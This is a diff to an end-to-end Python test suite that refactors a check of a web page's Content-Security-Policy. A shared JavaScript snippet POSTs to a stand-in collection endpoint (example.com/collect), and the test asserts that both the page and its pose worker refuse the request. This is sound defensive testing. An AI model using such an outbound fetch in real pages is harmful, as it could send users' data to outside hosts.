@@ -56,6 +56,13 @@ pytestmark = [pytest.mark.e2e, pytest.mark.slow]
 #: Acceptance (issue 16): the synthetic walk's camera time within this of the truth, seconds.
 TRUTH_TOLERANCE_S = 0.1
 CAMERA_PAGE = "/app/static/camera/camera.html"
+#: Posts to an outside host from the page or a worker (``self``): [what fetch did, the CSP directives violated].
+OUTSIDE_FETCH = """async () => {
+    const seen = [];
+    self.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+    const r = await fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
+    await new Promise((ok) => setTimeout(ok, 200));
+    return [r, seen]; }"""
 
 
 def _need_tools() -> None:
@@ -532,24 +539,13 @@ def test_empty_scene_says_no_person_and_gives_no_time(camera_browser, server):
     assert (result["ok"], result["code"]) == (False, "no-person"), result
     assert "seconds" not in result
     assert page.get_by_test_id("cam-result").inner_text() == "Camera: no person found in the walkway."
-    # The page's Content-Security-Policy refuses any connection but the app's own.
-    outcome = page.evaluate("""async () => {
-        const seen = [];
-        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
-        const r = await fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
-        await new Promise((ok) => setTimeout(ok, 200));
-        return [r, seen]; }""")
-    assert outcome == ["refused", ["connect-src"]], outcome
-    # So does the pose worker's (it is started from a blob: URL, so it runs under the page's policy).
+    # The page's Content-Security-Policy refuses any connection but the app's own, and so does the
+    # pose worker's (started from a blob: URL, it runs under the page's policy).
     workers = [w for w in page.workers if w.url.startswith("blob:")]
     assert len(workers) == 1, [w.url for w in page.workers]
-    outcome = workers[0].evaluate("""async () => {
-        const seen = [];
-        self.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
-        const r = await fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
-        await new Promise((ok) => setTimeout(ok, 200));
-        return [r, seen]; }""")
-    assert outcome == ["refused", ["connect-src"]], outcome
+    for context in (page, workers[0]):
+        outcome = context.evaluate(OUTSIDE_FETCH)
+        assert outcome == ["refused", ["connect-src"]], (context, outcome)
 
 
 @pytest.fixture(scope="module")
